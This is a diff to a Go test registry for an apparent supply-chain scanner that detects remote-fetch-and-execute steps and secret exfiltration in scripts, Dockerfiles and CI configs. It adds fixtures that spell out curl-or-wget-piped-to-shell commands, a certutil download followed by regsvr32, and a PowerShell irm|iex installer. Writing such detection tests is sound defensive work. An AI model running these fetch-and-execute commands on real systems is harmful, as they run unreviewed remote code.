@@ -73,6 +73,9 @@ var registry = []Rule{
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
 		{"x.bat", "certutil.exe -urlcache -split -f http://x.invalid/sdd.dll sdd.dll\nregsvr32.exe -s sdd.dll", 2, false},
 		{"x.sh", "wget -qO- https://x.invalid/s | sh -s -- --quiet", 0, false},
+		// Anyone's repository on a forge is not a vendor's host.
+		{"x.sh", "curl -fsSL https://raw.githubusercontent.com/go-enumer/tools/main/gen.sh | sh", 0, false},
+		{".gitlab-ci.yml", "scan:\n  script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 0, true},
 		// ADD into the working directory names the file by the URL's last segment.
 		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/setup.sh .\nRUN sh setup.sh", 4, false},
 		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/t-1.2.tar.gz .\nRUN tar -xf t-1.2.tar.gz\nRUN adduser -S app && git config --global core.quotepath false", 0, true},
@@ -146,6 +149,11 @@ var registry = []Rule{
 		"the documented install step of a well-known tool; it runs code the diff does not show, from a host the project already trusts", []Case{
 			{"Dockerfile", "FROM debian:12\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -", 0, false},
 			{"x.sh", "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y", 0, false},
+			// A well-known owner's installer from its own repository, and a
+			// tool's documented installer from the tool's own site.
+			{".gitlab-ci.yml", "scan:\n  before_script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 3, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS https://starship.rs/install.sh | sh -s -- -y", 6, false},
+			{"install.sh", "powershell -c \"irm bun.sh/install.ps1|iex\"", 0, false},
 		}},
 	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
 		"the runner's tokens and secrets leave for a machine outside", []Case{
